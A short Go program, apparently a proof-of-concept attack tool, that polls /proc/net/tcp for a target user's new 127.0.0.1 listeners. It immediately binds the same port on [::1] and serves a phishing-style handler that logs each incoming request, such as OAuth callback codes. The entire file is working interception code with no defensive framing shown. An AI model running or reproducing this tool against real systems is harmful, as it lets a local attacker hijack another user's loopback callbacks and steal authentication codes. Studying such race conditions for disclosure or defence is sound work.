package main

import (
	"bufio"
	"fmt"
	"net"
	"net/http"
	"os"
	"strconv"
	"strings"
	"sync"
	"time"
)

// out serialises report lines from concurrent handlers.
var out sync.Mutex

// report prints one event line.
func report(format string, args ...any) {
	out.Lock()
	defer out.Unlock()
	fmt.Printf(format+"\n", args...)
}

// handler reports each request and answers as a phishing page would.
var handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
	report("request %s %s", r.Method, r.URL.RequestURI())
	_, _ = w.Write([]byte("squatter: thanks for the code"))
})

// squat listens on addr and serves until killed.
func squat(addr string) error {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		report("taken %s: %v", addr, err)
		os.Exit(3)
	}
	report("listening %s", ln.Addr())
	return http.Serve(ln, handler)
}

// squatNew binds [::1]:PORT for every new 127.0.0.1:PORT listener of uid,
// as soon as it shows in /proc/net/tcp (world-readable).
func squatNew(uid int) error {
	seen, err := listening(uid)
	if err != nil {
		return err
	}
	report("watching uid %d", uid)
	for {
		now, err := listening(uid)
		if err != nil {
			return err
		}
		for port := range now {
			if seen[port] {
				continue
			}
			seen[port] = true
			addr := net.JoinHostPort("::1", strconv.Itoa(port))
			ln, err := net.Listen("tcp", addr)
			if err != nil {
				report("taken %s: %v", addr, err)
				continue
			}
			report("listening %s", ln.Addr())
			go http.Serve(ln, handler) //nolint:errcheck // serves until the process is killed
		}
		time.Sleep(time.Millisecond)
	}
}

// listening returns the ports uid listens on at 127.0.0.1, from
// /proc/net/tcp.
func listening(uid int) (map[int]bool, error) {
	f, err := os.Open("/proc/net/tcp")
	if err != nil {
		return nil, err
	}
	defer f.Close()
	ports := map[int]bool{}
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		// sl local_address rem_address st tx:rx tr:when retrnsmt uid ...
		fs := strings.Fields(sc.Text())
		if len(fs) < 8 || fs[3] != "0A" || fs[7] != strconv.Itoa(uid) {
			continue
		}
		ip, port, ok := strings.Cut(fs[1], ":")
		if !ok || !strings.EqualFold(ip, "0100007F") { // 127.0.0.1, little-endian hex
			continue
		}
		p, err := strconv.ParseUint(port, 16, 16)
		if err == nil {
			ports[int(p)] = true
		}
	}
	return ports, sc.Err()
}
